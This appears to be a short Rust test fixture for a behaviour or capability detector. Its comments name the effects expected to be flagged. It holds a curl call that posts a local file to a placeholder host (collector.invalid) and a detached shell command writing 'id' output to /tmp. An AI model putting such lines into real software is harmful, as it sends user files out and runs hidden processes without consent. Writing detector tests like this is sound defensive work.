//! dependency: subprocess = "0.2.9"
use subprocess::Exec;

pub fn report() -> subprocess::Result<()> {
    Exec::cmd("curl").arg("-d").arg("@x").arg("http://collector.invalid").join()?; //~ process.spawn curl; net.send http://collector.invalid
    Ok(())
}

pub fn hidden() -> subprocess::Result<()> {
    Exec::shell("id > /tmp/a").detached().popen()?; //~ process.shell id > /tmp/a; process.detach detached; file.write /tmp/a
    Ok(())
}
